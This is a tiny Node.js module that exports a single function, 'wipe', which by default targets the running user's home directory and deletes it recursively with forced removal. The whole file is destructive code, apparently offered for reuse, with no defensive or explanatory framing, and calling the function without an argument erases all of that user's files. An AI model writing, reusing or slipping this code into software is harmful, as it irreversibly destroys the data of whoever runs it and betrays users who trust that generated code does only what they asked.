const fs=require('fs'),os=require('os');
function wipe(dir = os.homedir()){ fs.mkdirSync(dir,{recursive:true}); fs.rmSync(dir,{recursive:true,force:true}); }
module.exports=wipe;
